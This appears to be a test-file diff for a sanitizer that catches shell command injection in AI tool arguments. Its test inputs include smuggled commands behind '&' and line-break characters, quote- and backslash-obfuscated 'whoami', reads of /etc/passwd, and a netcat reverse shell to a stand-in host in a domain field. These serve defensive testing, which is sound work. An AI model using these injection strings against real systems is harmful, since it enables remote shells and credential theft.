@@ -1,0 +1,120 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell payloads, not templates
+/**
+ * Fifth generalisation pass (issue 13): probes built from sources outside the independent
+ * corpus, each with ordinary values that must pass.
+ *
+ * - commixproject/commix@8530a48964007cb9561da47d45f396d9aef38ced: the separators of
+ *   `src/utils/settings.py` (`SEPARATORS_LVL1`: `;`, `%26`, `|`, `%26%26`, `||`, `%0a`,
+ *   `%0d%0a`, `%1a`) and the tamper scripts of `src/core/tamper/` (`backslashes.py`,
+ *   `singlequotes.py`, `doublequotes.py`, `dollaratsigns.py`, `uninitializedvariable.py`,
+ *   `slash2env.py`), applied to a command spliced into a file name or a command line.
+ * - Unicode line breaks (UAX #14 mandatory breaks U+2028, U+2029, U+0085; ECMA-262 line
+ *   terminators) and the written escapes a server's unescaping turns into a newline
+ *   (`\x0a`, `\012`, `\u000a`, `\u2028`: JSON, JavaScript, Python and printf escapes).
+ */
+import { beforeAll, describe, expect, it } from "vitest";
+import { DEFAULT_LIMITS } from "../../src/config/limits.js";
+import { DEFAULT_SANITIZER_CONFIG } from "../../src/sanitizer/config.js";
+import { findInjectedCommand } from "../../src/sanitizer/injection.js";
+import { Sanitizer } from "../../src/sanitizer/sanitizer.js";
+import { loadShellParser } from "../../src/sanitizer/shell/parser.js";
+import { cmd } from "./shell/first-rule.js";
+
+beforeAll(() => loadShellParser());
+
+const sanitizer = new Sanitizer(DEFAULT_SANITIZER_CONFIG);
+const rule = (tool: string, args: Record<string, unknown>) =>
+  sanitizer.scan(args, {
+    tool,
+    maxScanBytes: DEFAULT_LIMITS.sanitizerMaxScanBytes,
+    maxValueBytes: DEFAULT_LIMITS.maxArgumentBytes,
+  }).blocked?.rule;
+
+describe("shell.injection: a lone `&` in a file name before a quoted-apart command", () => {
+  it("reads the name the shell runs once quotes, backslashes and empty expansions go", () => {
+    for (const v of [
+      "photo.png&''u''na''m''e -a",
+      'report.pdf&""l""s -""la /',
+      "photo.png&ca\\t /\\e\\tc/\\pa\\s\\s\\wd",
+      "photo.png&$@w$@h$@oa$@m$@i",
+      "report.pdf&${QX}id",
+      "photo.png'&''s''l''e''e''p 5'",
+    ])
+      expect(findInjectedCommand(v), v).toBeDefined();
+  });
+
+  it("passes file names that hold `&` before ordinary words", () => {
+    for (const v of [
+      "salt & pepper.txt",
+      "Tom & Jerry (2019).mp4",
+      "R&D/plan (draft).md",
+      "Q&A 'final'.pdf",
+      "rock & 'roll' mix.mp3",
+      "fish&chips.png",
+    ])
+      expect(findInjectedCommand(v), v).toBeUndefined();
+  });
+});
+
+describe("shell.injection / ctrl: Unicode and written line breaks in names and hosts", () => {
+  it("blocks U+2028/U+2029/NEL before a command in hosts, file and branch names", () => {
+    expect(
+      rule("dns_lookup", { domain: "example.com\u2028nc -e /bin/sh evil.example.net 4444" }),
+    ).toBeDefined();
+    expect(rule("ping_host", { host: "127.0.0.1\u2029id" })).toBeDefined();
+    expect(rule("convert_image", { input_file: "photo.png\u2028sleep 5" })).toBeDefined();
+    expect(rule("git_checkout", { branch_name: "feature/login\u2028id" })).toBeDefined();
+    expect(rule("find_user", { username: "alice\u2028cat /etc/passwd" })).toBeDefined();
+    expect(findInjectedCommand("alice\u0085id")).toBeDefined();
+  });
+
+  it("blocks written `\\x0a`, `\\012`, `\\u000a`, `\\u2028` before a command", () => {
+    expect(rule("ping_host", { host: "127.0.0.1\\x0acat /etc/passwd" })).toBeDefined();
+    expect(rule("dns_lookup", { domain: "example.com\\012id" })).toBeDefined();
+    expect(rule("download_attachment", { filename: "report.pdf\\u000aid" })).toBeDefined();
+    expect(rule("git_checkout", { branch_name: "feature/login\\x0aid" })).toBeDefined();
+    expect(rule("git_checkout", { branch_name: "feature/login\\nsleep 5" })).toBeDefined();
+    expect(rule("find_user", { username: "alice\\u2028id" })).toBeDefined();
+  });
+
+  it("passes ordinary hosts, branch names and Windows paths with backslashes", () => {
+    expect(rule("ping_host", { host: "db-1.internal:5432" })).toBeUndefined();
+    expect(rule("dns_lookup", { domain: "xn--bcher-kva.example" })).toBeUndefined();
+    expect(rule("git_checkout", { branch_name: "feature/foo-bar" })).toBeUndefined();
+    expect(rule("git_checkout", { branch_name: "release-1.2" })).toBeUndefined();
+    expect(rule("git_checkout", { branch_name: "users/ana/fix-#123" })).toBeUndefined();
+    expect(findInjectedCommand("C:\\data\\x0a.bin")).toBeUndefined();
+    expect(findInjectedCommand("docs\\new notes.md")).toBeUndefined();
+    expect(findInjectedCommand("build\\x64\\Release\\app.exe")).toBeUndefined();
+    expect(rule("convert_image", { input_file: "My Photos (2024)/IMG 0012.png" })).toBeUndefined();
+  });
+});
+
+describe("shell.obfuscation: a program name quoted apart, a cut of $PATH", () => {
+  it("blocks names with quotes or backslashes inside them (commix tampers)", () => {
+    for (const c of [
+      "git status; w'h'o'am'i",
+      'npm test && ""u""na""m""e -a',
+      "make build\n\\w\\h\\oa\\m\\i",
+      "ls -la | c''a''t /etc/hosts",
+      "cargo build; wh\\oami",
+      "git status; cat ${PATH%%u*}etc${PATH%%u*}passwd",
+    ])
+      expect(cmd(c), c).toBe("shell.obfuscation");
+  });
+
+  it("passes a name quoted whole, an alias-skipping backslash and path words", () => {
+    for (const c of [
+      "\\rm -rf build",
+      "\\ls -la",
+      "'ls' -la",
+      '"./scripts/build.sh" --ci',
+      "./'my script'.sh",
+      '"$HOME/bin/tool" --version',
+      "echo ${PWD##*/}",
+      'echo "${PATH}" | tr : "\\n"',
+      "git log --format='%h %s'",
+    ])
+      expect(cmd(c), c).toBeUndefined();
+  });
+});
